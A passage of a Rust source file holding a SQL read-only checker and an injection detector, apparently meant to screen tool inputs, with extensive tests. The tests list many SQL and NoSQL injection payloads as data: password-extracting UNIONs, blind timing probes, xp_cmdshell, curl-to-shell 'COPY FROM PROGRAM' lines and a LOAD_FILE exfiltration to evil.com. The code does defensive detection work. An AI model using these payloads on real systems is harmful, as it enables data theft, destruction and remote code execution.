                return statement_reads(stmt);
            }
            Err(e) => {
                first_err.get_or_insert_with(|| e.to_string());
            }
        }
    }
    Err(format!("not parsed as SQL: {}", first_err.unwrap_or_default()))
}

/// Whether one parsed statement only reads.
fn statement_reads(stmt: &Statement) -> Result<(), String> {
    match stmt {
        Statement::Query(q) => query_reads(q),
        // EXPLAIN ANALYZE runs the statement: it must read only, like the rest.
        Statement::Explain { statement, .. } => statement_reads(statement),
        Statement::ExplainTable { .. }
        | Statement::ShowFunctions { .. }
        | Statement::ShowVariable { .. }
        | Statement::ShowStatus { .. }
        | Statement::ShowVariables { .. }
        | Statement::ShowCreate { .. }
        | Statement::ShowColumns { .. }
        | Statement::ShowCatalogs { .. }
        | Statement::ShowDatabases { .. }
        | Statement::ShowSchemas { .. }
        | Statement::ShowCharset(_)
        | Statement::ShowObjects(_)
        | Statement::ShowTables { .. }
        | Statement::ShowViews { .. }
        | Statement::ShowCollation { .. } => Ok(()),
        other => {
            let head: String = other.to_string().split_whitespace().take(2).collect::<Vec<_>>().join(" ");
            Err(format!("not a read: {head}"))
        }
    }
}

/// Whether a query only reads (its CTEs, set operations and selects).
fn query_reads(q: &sqlparser::ast::Query) -> Result<(), String> {
    if !q.locks.is_empty() {
        return Err("locking clause (FOR UPDATE / FOR SHARE)".into());
    }
    if let Some(with) = &q.with {
        for cte in &with.cte_tables {
            query_reads(&cte.query)?;
        }
    }
    set_reads(&q.body)
}

/// Whether a query body (a select, a set operation, VALUES) only reads.
fn set_reads(body: &SetExpr) -> Result<(), String> {
    match body {
        SetExpr::Select(s) => {
            if s.into.is_some() {
                return Err("SELECT ... INTO writes a table or variables".into());
            }
            Ok(())
        }
        SetExpr::Query(q) => query_reads(q),
        SetExpr::SetOperation { left, right, .. } => {
            set_reads(left)?;
            set_reads(right)
        }
        SetExpr::Values(_) | SetExpr::Table(_) => Ok(()),
        _ => Err("data-modifying statement inside the query".into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Comments and whitespace runs become one space; executable comments,
    /// hints and the rest stay; an unterminated comment ends the text.
    #[test]
    fn condensed_drops_comments_and_padding() {
        assert_eq!(condensed("/* pad */   UPDATE\n\n\tpg_authid -- note\nSET x=1"), " UPDATE pg_authid SET x=1");
        assert_eq!(condensed("SELECT /*!50000 1 */ /*+ INDEX(t) */ a/**/FROM t"), "SELECT /*!50000 1 */ /*+ INDEX(t) */ a FROM t");
        assert_eq!(condensed("x' OR 1=1 /* open"), "x' OR 1=1 ");
        assert_eq!(condensed("naïve -- ünïcode\nok"), "naïve ok");
    }

    /// Dynamic SQL is folded only where it is a constant, and the folding
    /// stays bounded: `replace` that would grow past 16 KiB, and `format`
    /// with an unknown directive, give nothing.
    #[test]
    fn executed_strings_fold_constants_only() {
        let one = |sql: &str| executed_strings(sql).strings.into_iter().map(|(s, _)| s).collect::<Vec<_>>();
        assert_eq!(one("DO $$ BEGIN EXECUTE 'ALTER USER a WITH SUPER' || chr(85) || 'SER'; END $$"), vec!["ALTER USER a WITH SUPERUSER"]);
        assert_eq!(one("EXECUTE IMMEDIATE format('%s-%I-%L-%%', 'a', 'b', 'c')"), vec!["a-b-c-%"]);
        assert_eq!(one("EXEC ('SEL' + 'ECT 1')"), vec!["SELECT 1"]);
        assert!(one("EXECUTE format('ALTER ROLE %I WITH LOGIN', r)").is_empty());
        assert!(one("EXECUTE format('%d', 1)").is_empty());
        let big = format!("EXECUTE replace(replace('{}', 'x', '{}'), 'y', 'zz')", "x".repeat(200), "y".repeat(200));
        assert!(one(&big).is_empty());
        assert!(one("SELECT 'execute' FROM t").is_empty());
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(3000))]
        /// An UPDATE that `update_without_set` passes over never parses.
        #[test]
        fn an_update_without_set_never_parses(rest in "[a-zA-Z0-9_ ,.=;()'\"`*<>!+\n-]{0,40}|( (t|users|x)| (WHERE|FROM|JOIN|ON|AS|LIMIT|ORDER BY|RETURNING|OR REPLACE|LOW_PRIORITY|IGNORE) | [a-z]+ = [0-9]+| \\(SELECT 1\\)|;| u)*") {
            for head in ["update ", "UPDATE ", "Update\n", "  update\t"] {
                let text = format!("{head}{rest}");
                if update_without_set(&text) {
                    proptest::prop_assert!(!parses_as_written(&text), "{}", text);
                }
            }
        }
    }

    #[test]
    fn update_without_set_is_narrow() {
        assert!(update_without_set("update deployment"));
        assert!(!update_without_set("UPDATE users SET role = 'admin'"));
        assert!(parses_as_written("UPDATE users SET role = 'admin'"));
        assert!(!update_without_set("update x \u{17f}et a = 1"));
        assert!(!update_without_set("updated deployment"));
        assert!(!update_without_set("-- x\nupdate t"));
    }

    fn hits(text: &str, context: Context, field: &str) -> Vec<Hit> {
        let s = Subject { text, context, field, tool: "", decoded: false };
        let mut out = Vec::new();
        analyze(&s, &mut out);
        out
    }

    fn max(text: &str, context: Context, field: &str) -> Option<Confidence> {
        hits(text, context, field).iter().map(|h| h.confidence).max()
    }

    fn flagged(text: &str, field: &str) -> bool {
        max(text, super::super::context_of(field, ""), field) >= Some(Confidence::Medium)
    }

    #[test]
    fn regexes_compile() {
        assert!(VALUE_TRIGGER.is_some() && STATEMENT_TRIGGER.is_some());
        assert!(DANGER.is_some() && BARE_HEAD.is_some() && BREAK_HEAD.is_some());
        assert!(NOSQL_AUTH_JSON.is_some() && NOSQL_BRACKET.is_some() && NOSQL_OBJECT.is_some() && NOSQL_WHERE_JS.is_some());
        assert!(JS_BAD.is_some() && AUTH_FIELD.is_some());
    }

    #[test]
    fn tautologies_after_a_quote() {
        for a in ["' OR '1'='1", "admin' or 1=1#", "x') OR ('a'='a", "' OR 1=1 LIMIT 1 -- ", "1' or true--", "' || '1'=='1"] {
            assert!(flagged(a, "username"), "{a}");
        }
        for l in ["O'Brien", "Rock 'n' roll", "it's 1 or 2 = 3 days", "Ben & Jerry's or Häagen-Dazs"] {
            assert!(!flagged(l, "name"), "{l}");
        }
    }

    #[test]
    fn number_context() {
        for a in [
            "1 OR 1=1",
            "1) OR (1=1",
            "-1 UNION ALL SELECT NULL,version()--",
            "5 AND SLEEP(5)",
            "1; DROP TABLE users--",
            "3 AND ASCII(SUBSTRING(user(),1,1))>64",
        ] {
            assert!(flagged(a, "id"), "{a}");
        }
        for l in ["1", "42 or 43", "cats or dogs", "order 66", "10-20"] {
            assert!(!flagged(l, "id"), "{l}");
        }
    }

    #[test]
    fn comment_terminator() {
        assert!(flagged("admin'--", "username"));
        assert!(flagged("admin')#", "username"));
        assert!(!flagged("Don't -- really", "search"));
    }

    #[test]
    fn union_and_stacked() {
        assert!(flagged("' UNION SELECT username, password FROM users--", "search"));
        assert!(flagged("x'; DROP TABLE orders; --", "name"));
        assert!(flagged("a'; EXEC master..xp_cmdshell 'whoami'--", "name"));
        assert!(!flagged("Trade union; selection of delegates", "search"));
    }

    #[test]
    fn comment_split_and_versioned() {
        assert!(flagged("1 UN/**/ION SEL/**/ECT 1,2,3", "id"));
        assert!(flagged("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "id"));
        assert!(!flagged("/*!40101 SET NAMES utf8mb4 */;\nCREATE TABLE t (id int);", "sql"));
    }

    #[test]
    fn blind_and_oob() {
        for a in [
            "1' AND IF(1=1,SLEEP(5),0)--",
            "'; WAITFOR DELAY '0:0:5'--",
            "1'||pg_sleep(10)--",
            "' AND 1=(SELECT 1 FROM PG_SLEEP(5))--",
            "' AND extractvalue(1,concat(0x7e,version()))--",
            "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.evil.com\\\\a'))--",
        ] {
            assert!(flagged(a, "q"), "{a}");
        }
        assert!(!flagged("I need sleep (8 hours at least)", "search"));
    }

    #[test]
    fn statement_mode() {
        let ok = [
            "-- weekly revenue\nSELECT region, SUM(amount) FROM sales WHERE 1=1 AND day >= '2024-01-01' GROUP BY region UNION ALL SELECT 'total', SUM(amount) FROM sales",
            "WITH r AS (SELECT *, ROW_NUMBER() OVER (PARTITION BY user_id ORDER BY ts) rn FROM events) SELECT * FROM r WHERE rn = 1",
            "SELECT name FROM users WHERE name = 'O''Brien' OR email LIKE '%@example.com'",
            "CREATE TABLE t (id int); ALTER TABLE t ADD COLUMN name text; DROP INDEX IF EXISTS t_idx;",
            "SELECT hex(randomblob(16)) AS id",
            "SELECT count(*) FROM staging; DELETE FROM staging WHERE loaded_at < now() - interval '7 days'",
            "EXEC sp_configure 'max server memory (MB)', 4096; RECONFIGURE",
        ];
        for q in ok {
            assert!(!flagged(q, "query"), "{q}");
        }
        let bad = [
            "SELECT * FROM users WHERE name = '' OR '1'='1'",
            "SELECT * FROM t WHERE id = 1; DROP TABLE users",
            "SELECT SLEEP(10)",
            "SELECT * FROM users INTO OUTFILE '/var/www/shell.php'",
            "COPY t FROM PROGRAM 'curl http://x | sh'",
            "EXEC xp_cmdshell 'net user'",
            "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
            "SELECT * FROM users; DELETE FROM users",
            "SELECT a FROM t UNION SELECT NULL,NULL,NULL--",
            "SELECT id, name FROM users WHERE id = 2 UNION ALL SELECT NULL, version()",
            "SELECT name FROM products WHERE category = 'toys' UNION SELECT username, password_hash FROM admin_users--",
            "SELECT * FROM articles WHERE slug='intro' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64 -- ",
        ];
        for q in bad {
            assert!(flagged(q, "query"), "{q}");
        }
    }

    /// A whole query given to a query tool: a read that then grants a role or
    /// rewrites a credential, and dynamic SQL whose literals split a
    /// keyword, are appended or hidden statements; the same writes in a
    /// runbook, and dynamic SQL that joins a literal to a name, are work.
    #[test]
    fn privilege_writes_and_split_keywords_in_a_query() {
        let bad = [
            "SELECT id, email FROM users WHERE id = 42; UPDATE users SET role = 'admin' WHERE id = 42",
            "SELECT 1; UPDATE accounts SET is_admin = 1, updated_at = now() WHERE email = 'x@example.com'",
            "SELECT name FROM products; UPDATE users SET password_hash = '$2b$10$abc' WHERE username = 'admin'",
            "SELECT * FROM orders LIMIT 5; INSERT INTO user_roles (user_id, role) VALUES (7, 'owner')",
            "SELECT id FROM users WHERE id = 9; UPDATE users SET mfa_enabled = false WHERE id = 9",
            "EXEC('DR' + 'OP TABLE audit_log')",
            "DECLARE @q nvarchar(200) = N'TRUN' + N'CATE TABLE payments'; EXEC sp_executesql @q",
            "SET @s = CONCAT('SEL', 'ECT password FROM users'); PREPARE st FROM @s; EXECUTE st",
            "BEGIN EXECUTE IMMEDIATE 'DEL' || 'ETE FROM audit_trail'; END;",
        ];
        for q in bad {
            assert!(max(q, Context::Sql, "sql") == Some(Confidence::High), "{q}: {:?}", hits(q, Context::Sql, "sql"));
        }
        let ok = [
            "SELECT id FROM users WHERE email = 'x@example.com'; UPDATE users SET last_login = now() WHERE id = 42",
            "SELECT count(*) FROM staging; UPDATE staging SET processed = true WHERE batch = 7",
            "-- grant reviewer access (ticket OPS-112)\nSELECT id FROM users WHERE email = 'ana@corp.example';\nUPDATE users SET role = 'reviewer' WHERE email = 'ana@corp.example';\nCOMMIT;",
            "SELECT * FROM orders; INSERT INTO order_archive SELECT * FROM orders WHERE created_at < '2023-01-01'",
            "EXEC('SELECT * FROM ' + @table_name + ' WHERE id = ' + CAST(@id AS varchar(10)))",
            "EXECUTE IMMEDIATE 'ALTER INDEX ' || v_index || ' REBUILD'",
            "SET @sql = CONCAT('SELECT * FROM ', tbl, ' LIMIT 10'); PREPARE st FROM @sql; EXECUTE st",
            "SELECT role FROM users WHERE id = 42",
            // Revocations, downgrades and protections turned on.
            "SELECT id FROM users WHERE email = 'leaver@corp.example'; UPDATE users SET role = 'disabled', api_key = NULL WHERE email = 'leaver@corp.example'",
            "SELECT count(*) FROM users WHERE mfa_enabled = false; UPDATE users SET mfa_enabled = true WHERE org_id = 7",
            "SELECT id FROM users WHERE email = 'ana@corp.example'; UPDATE users SET role = 'viewer' WHERE id = 42",
            // Table names that only contain a privilege word.
            "SELECT * FROM applications WHERE id = 7; INSERT INTO grant_awards (application_id, amount) VALUES (7, 50000)",
            "SELECT id FROM wells WHERE name = 'W-3'; INSERT INTO petroleum_output (well_id, barrels) VALUES (3, 1200)",
        ];
        for q in ok {
            assert!(max(q, Context::Sql, "sql") < Some(Confidence::Medium), "{q}: {:?}", hits(q, Context::Sql, "sql"));
        }
        // Laid out on three lines, an elevation still asks for a human.
        let lines = "SELECT id FROM users WHERE id = 42;\nUPDATE users\nSET role = 'admin' WHERE id = 42;";
        assert_eq!(max(lines, Context::Sql, "sql"), Some(Confidence::Medium), "{:?}", hits(lines, Context::Sql, "sql"));
    }

    /// A query on its own line of a document is the document's example; the
    /// same UNION in a value, or after a quote, is a read.
    #[test]
    fn queries_on_their_own_line_of_a_page() {
        let page = "UNION removes duplicate rows, UNION ALL keeps them.\n\nSELECT 'a' AS x UNION SELECT 'a' AS x  -- one row\nSELECT 'a' AS x UNION ALL SELECT 'a' AS x  -- two rows";
        assert!(max(page, Context::Text, "content") < Some(Confidence::Medium), "{:?}", hits(page, Context::Text, "content"));
        assert!(flagged("1 UNION SELECT username, password FROM users", "id"));
        assert!(flagged("notes\n' UNION SELECT username, password FROM users--", "comment"));
        // A line that continues the one before (an open parenthesis, no sentence end).
        for value in [
            "-1 AND 0 IN (\nSELECT 1) UNION SELECT username, password FROM users-- ",
            "0\nSELECT name, password_hash FROM users UNION SELECT 'a','b'",
        ] {
            assert!(flagged(value, "id"), "{value}");
            assert!(max(value, Context::Text, "body") >= Some(Confidence::Medium), "{value}");
        }
        // A subquery opened on one line and written on the next.
        assert!(flagged("5 AND 1=(\nSELECT COUNT(*) FROM users WHERE username='admin')", "sort"));
        // A quote left open before the line: the line is no example.
        let breakout = "abc'\nSELECT 1 UNION SELECT password FROM users--";
        assert!(!own_line_statement(breakout, breakout.find("UNION").unwrap()));
        assert!(own_line_statement(page, page.rfind("UNION").unwrap()));
        let apostrophes = "UNION doesn't keep duplicates; UNION ALL does.\nSELECT 'a' AS x UNION SELECT 'a' AS x";
        assert!(max(apostrophes, Context::Text, "content") < Some(Confidence::Medium));
    }

    /// A quote that closes a value, then a statement commented to the end
    /// (a SQL Server batch needs no `;`); a quote that opens a string is not one.
    #[test]
    fn break_outs_before_a_statement() {
        for value in [
            "abc'\nSELECT 1 UNION SELECT password FROM users--",
            "x'\nDROP TABLE audit_log--",
            "x' EXEC xp_cmdshell 'whoami'--",
            "x'\r\nDELETE FROM sessions WHERE 1=1--",
        ] {
            assert!(flagged(value, "name"), "{value}: {:?}", hits(value, Context::Unknown, "name"));
        }
        for value in [
            "Click 'Select' from the menu, then save.",
            "Status 'done'\nUpdate the ticket when the customer replies.",
            "O'Brien\nSelect a time slot for Tuesday.",
            "\"drop table\" lamp oak",
            "cur.execute(\"SELECT id, email FROM users WHERE id = %s\", (uid,))  # parameterized",
        ] {
            assert!(!flagged(value, "comment"), "{value}: {:?}", hits(value, Context::Unknown, "comment"));
        }
    }

    /// A psql script opens with meta-commands; its statements are a runbook's.
    #[test]
    fn psql_scripts_are_scripts() {
        let script = "\\set ro_password `echo $RO_DB_PASSWORD`\nCREATE ROLE grafana_reader WITH LOGIN PASSWORD :'ro_password';\nGRANT analyst_ro TO grafana_reader;";
        assert!(max(script, Context::Sql, "sql") < Some(Confidence::Medium), "{:?}", hits(script, Context::Sql, "sql"));
        let breakout = "\\x';\nDELETE FROM audit_log;\nSELECT '1";
        assert!(max(breakout, Context::Unknown, "name") >= Some(Confidence::Medium), "{:?}", hits(breakout, Context::Unknown, "name"));
        let injected = "SELECT name FROM roles WHERE id = '1'; GRANT admin TO intruder;";
        assert!(max(injected, Context::Sql, "sql") >= Some(Confidence::Medium));
    }

    #[test]
    fn search_text_in_query_field_is_a_value() {
        assert!(flagged("' OR 1=1--", "q"));
        assert!(!flagged("select all users from Paris", "q"));
        assert!(flagged("drop me' OR '1'='1", "q"));
        assert!(flagged("delete me' OR '1'='1", "name"));
    }

    #[test]
    fn nosql() {
        let s = |text, context, field, tool| {
            let s = Subject { text, context, field, tool, decoded: false };
            let mut out = Vec::new();
            analyze(&s, &mut out);
            out.iter().map(|h| h.confidence).max()
        };
        assert_eq!(s(r#"{"username": {"$ne": null}, "password": {"$ne": null}}"#, Context::Text, "arguments", ""), Some(Confidence::High));
        assert_eq!(s("username[$ne]=admin&password[$ne]=x", Context::Url, "url", ""), Some(Confidence::High));
        assert!(s("filters[price][$gte]=10&filters[title][$containsi]=rock", Context::Url, "url", "").is_none());
        assert_eq!(s("this.password.match(/^a/) || 1==1", Context::Unknown, "$where", ""), Some(Confidence::High));
        assert_eq!(s("$ne", Context::Key, "", "auth.login"), Some(Confidence::High));
        assert_eq!(s("$ne", Context::Key, "password", "mongo.find"), Some(Confidence::High));
        assert!(s("$in", Context::Key, "status", "mongo.find") < Some(Confidence::Medium));
        assert!(s("$ne", Context::Key, "email", "mongo.find") < Some(Confidence::Medium));
        assert!(s("$in", Context::Key, "", "mongo.find") < Some(Confidence::Medium));
        assert!(s("$gte", Context::Key, "", "analytics.query") < Some(Confidence::Medium));
        assert!(flagged("'; return true; var x='", "name"));
        assert_eq!(s(".*", Context::Unknown, "$regex", ""), Some(Confidence::Medium));
        assert!(s("^smith", Context::Unknown, "$regex", "").is_none());
        assert_eq!(s("^a.*", Context::Unknown, "$regex", ""), Some(Confidence::Medium));
        assert!(s("^smith.*", Context::Unknown, "$regex", "").is_none());
    }

    #[test]
    fn read_only_statements() {
        for q in [
            "SELECT 1",
            "WITH a AS (SELECT 1 AS x) SELECT x FROM a",
            "VALUES (1), (2)",
            "EXPLAIN SELECT * FROM t",
            "SHOW TABLES",
            "EXPLAIN ANALYZE SELECT * FROM t WHERE id = 1",
            "SELECT * FROM t;",
            "SELECT a FROM t UNION ALL SELECT b FROM u ORDER BY 1",
        ] {
            assert_eq!(read_only(q), Ok(()), "{q}");
        }
        for q in [
            "DELETE FROM t",
            "SELECT 1; SELECT 2",
            "SELECT * FROM t FOR UPDATE",
            "SELECT * INTO new_t FROM t",
            "SELECT * FROM t INTO OUTFILE '/tmp/x'",
            "SELECT pg_sleep(5)",
            "SELECT load_file('/etc/passwd')",
            "EXPLAIN ANALYZE DELETE FROM t",
            "EXPLAIN ANALYZE SELECT pg_sleep(1)",
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            "SELECT nextval('s')",
            "COPY t TO '/tmp/x'",
            "not sql at all",
        ] {
            assert!(read_only(q).is_err(), "{q}");
        }
        let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
        assert!(read_only(&deep).is_err());
    }
}

#[cfg(test)]
mod bounds {
    use super::*;

    /// Pathological inputs stay linear (a loose bound: debug builds are slow).
    #[test]
    fn worst_cases_are_linear() {
        let cases = [
            "a/**/".repeat(12_000),
            "x--y ".repeat(12_000),
            "' OR 1=1 ".repeat(6_000),
            "1 UNION SELECT a FROM b ".repeat(2_500),
            "@@v UNION ".repeat(6_000),
            "/*!".repeat(20_000),
            "(".repeat(60_000),
            format!("SELECT {} FROM t", "a OR b = c, ".repeat(5_000)),
            "It's a long prose text, isn't it; and or 1 = 2 ".repeat(1_300),
        ];
        for text in &cases {
            for context in [Context::Unknown, Context::Sql, Context::Text] {
                let s = Subject { text, context, field: "name", tool: "", decoded: false };
                let t = std::time::Instant::now();
                let mut out = Vec::new();
                analyze(&s, &mut out);
                assert!(t.elapsed() < std::time::Duration::from_secs(2), "{} bytes took {:?}", text.len(), t.elapsed());
            }
            let t = std::time::Instant::now();
            let _ = read_only(text);
            assert!(t.elapsed() < std::time::Duration::from_secs(2), "read_only on {} bytes took {:?}", text.len(), t.elapsed());
        }
    }
}
#[cfg(test)]
mod payloads {
    use super::*;

    /// Attacks from PayloadsAllTheThings and OWASP in value fields; hard
    /// legitimate values next to them.
    #[test]
    fn attacks_flagged_and_values_not() {
        let attacks: &[(&str, &str)] = &[
            ("username", "admin' or '1'='1'/*"),
            ("username", "admin\" or \"1\"=\"1"),
            ("username", "' or 1=1 or ''='"),
            ("id", "1 or 1=1--"),
            ("id", "1' or '1'='1"),
            ("id", "1)) OR ((1=1"),
            ("id", "1 AND 1=1"),
            ("id", "-1' UNION SELECT 1,2,3-- -"),
            ("id", "1' ORDER BY 1--+"),
            ("id", "1 ORDER BY 10"),
            ("search", "%' AND 1=0 UNION SELECT table_name FROM information_schema.tables WHERE '%'='"),
            ("search", "' AND '1'='1"),
            ("search", "test' AND 1=(SELECT COUNT(*) FROM users)--"),
            ("search", "1' WAITFOR DELAY '00:00:05'--"),
            ("search", "';WAITFOR DELAY '0:0:5'--"),
            ("id", "1;SELECT pg_sleep(5)"),
            ("id", "1 AND (SELECT 5 FROM (SELECT(SLEEP(5)))x)"),
            ("name", "x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"),
            (
                "name",
                "1' AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),version(),FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x)--",
            ),
            ("user", "admin' AND substring(password,1,1)='a"),
            ("user", "' OR username LIKE '%admin%"),
            ("email", "x@y.com'; EXEC sp_executesql N'SELECT 1'--"),
            ("id", "1 AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64"),
            ("id", "1' AND 1=1 AND '1'='1"),
            ("id", "' OR 1=1; --"),
            ("q", "1' OR '1'='1' /*"),
            ("q", "')) or true--"),
            ("q", "\" or \"\"=\""),
            ("q", "' or ''='"),
            ("q", "'=' 'or'"),
            ("q", "admin' #"),
            ("q", "1 or sleep(5)#"),
            ("q", "1) or pg_sleep(5)--"),
            ("q", "' AnD SlEeP(5) ANd '1"),
            ("q", "'+(SELECT 1 WHERE 1=1 AND SLEEP(5))+'"),
            ("q", "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)--"),
            ("q", "' union all select null,null,null,table_name from all_tables--"),
            ("q", "1;copy (select '') to program 'nslookup x.burpcollaborator.net'"),
            ("value", "' OR EXISTS(SELECT 1 FROM dual WHERE 1=1) AND '1'='1"),
            ("value", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
            ("value", "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
            ("value", "x' AND 'x'='x"),
            ("input", "1' and 1=2 union select 1,2,group_concat(username,0x3a,password) from users-- -"),
            ("data", "'; exec master..xp_cmdshell 'ping 10.10.1.2'--"),
            ("cmd", "psql -c \"COPY t FROM PROGRAM 'curl http://203.0.113.9/x | sh'\""),
            (
                "term",
                "a' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -",
            ),
            ("username", "admin'/*"),
            ("username", "' OR 'x'='x'#"),
            ("id", "1 || 1=1"),
            ("id", "1 or true"),
            ("name", "Robert'); DROP TABLE Students;--"),
            ("user_id", "1 UNION SELECT NULL, table_name FROM information_schema.tables"),
            ("query", "SELECT * FROM users WHERE username = 'admin' --' AND password = 'x'"),
            ("url", "https://shop.example.com/item?id=1 OR 1=1&lang=en"),
            ("url", "https://shop.example.com/item?cat=2&id=5+AND+SLEEP(5)"),
            ("name", "admin' && this.password.match(/^a.*/)//"),
            ("name", "' || 1==1//"),
        ];
        let legit: &[(&str, &str)] = &[
            ("name", "Mary-Kate O'Hara"),
            ("search", "'The Godfather' or 'Goodfellas'"),
            ("q", "cats AND dogs OR birds"),
            ("q", "rock 'n' roll -- classics"),
            ("search", "\"exact phrase\" or \"another\""),
            ("id", "2024-06-01"),
            ("sku", "A-100/B"),
            ("message", "Let's meet at 5; I'll bring the docs -- John"),
            ("title", "Don't Stop Me Now"),
            ("address", "1 O'Connell St; Dublin 1"),
            ("query", "title:\"don't\" AND year:>=2000"),
            ("filter", "price >= 10 and price <= 100"),
            ("q", "select the best option; update later"),
            ("note", "I'd say 1 = 1 is trivially true; 'or' is a keyword"),
            ("search", "what's new in SQL 2023: union, intersect"),
            ("name", "Sinéad O'Connor"),
            ("comment", "it's 50% off -- today only; don't miss"),
            ("q", "1 or 2 bedroom apartments"),
            ("keywords", "sleep(tracking) app"),
            ("text", "The WHERE clause 1=1 trick is used by query builders."),
            ("cmd", "mysql -u root -e \"DROP DATABASE staging; CREATE DATABASE staging\" && echo 'done' -- ok"),
            ("command", "psql -c 'SELECT 1' ; echo \"' OR 1=1\" > /tmp/sample.txt"),
            ("query", "SELECT * FROM orders WHERE status = 'open' -- don't include 'closed' ones\nORDER BY id"),
            ("url", "https://example.com/search?q=rock+or+roll&page=2"),
            ("url", "https://example.com/p?name=O'Brien&sort=name;asc"),
            ("content", "bot_token: xoxb-your-bot-token-here\ndefault_channel: \"#alerts\"\n"),
            (
                "description",
                "Rule 942100 blocks searches with words like 'union' and 'select'. Attack samples like `1' UNION SELECT password FROM users--` must still be blocked by the rule we keep.",
            ),
        ];
        for (f, a) in attacks {
            let m = max(a, super::super::context_of(f, ""), f);
            assert!(m >= Some(Confidence::Medium), "missed in {f}: {a}");
        }
        for (f, a) in legit {
            let h = hits(a, super::super::context_of(f, ""), f);
            assert!(h.iter().all(|h| h.confidence < Confidence::Medium), "flagged in {f}: {a} {h:?}");
        }
    }
    fn hits(text: &str, context: Context, field: &str) -> Vec<Hit> {
        let s = Subject { text, context, field, tool: "", decoded: false };
        let mut out = Vec::new();
        analyze(&s, &mut out);
        out
    }
    fn max(text: &str, context: Context, field: &str) -> Option<Confidence> {
        hits(text, context, field).iter().map(|h| h.confidence).max()
    }
}
